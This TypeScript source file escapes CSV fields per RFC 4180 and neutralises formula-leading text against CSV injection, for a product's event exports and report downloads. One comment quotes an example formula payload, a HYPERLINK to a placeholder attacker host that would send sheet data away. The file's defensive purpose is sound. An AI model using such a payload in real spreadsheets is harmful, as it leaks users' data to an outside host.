/**
 * Every CSV Mesura writes (the server's event export, the console's report downloads): RFC 4180
 * fields, and text that a spreadsheet would run as a formula written so that it shows as text.
 * One definition, so that no CSV is left that an attacker's page name can turn into a formula.
 */

/** What a cell holds; null and undefined are empty cells. */
export type CsvValue = string | number | bigint | boolean | null | undefined;

/**
 * The leading characters that make a spreadsheet read a cell as a formula, as OWASP's "CSV
 * Injection" guidance lists them: `=`, `+`, `-`, `@`, tab and carriage return. A page name such
 * as `=HYPERLINK("http://evil.example/?"&A1,"Click")` would otherwise become a link that sends
 * the sheet's data away when the analyst clicks it.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
/** RFC 4180: a field with a comma, a quote or a line break is quoted. */
const NEEDS_QUOTES = /[",\r\n]/;

/**
 * One field. Text that starts like a formula gets a single quote in front (which spreadsheets show
 * as text and do not run) and is quoted, as OWASP advises. Numbers, big integers and booleans are
 * written as they are: they are the values a column holds, so -25 stays a number the sheet can sum,
 * and no number's text can spell a formula. Text that only looks like a negative number ("-25" in
 * a text column) is text, and is neutralised like any other.
 */
export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value !== 'string') return String(value);
  if (FORMULA_START.test(value)) return `"'${value.replaceAll('"', '""')}"`;
  return NEEDS_QUOTES.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** One record's fields, comma-separated, without the line's end (CRLF in RFC 4180). */
export function csvRow(values: readonly CsvValue[]): string {
  return values.map(csvCell).join(',');
}
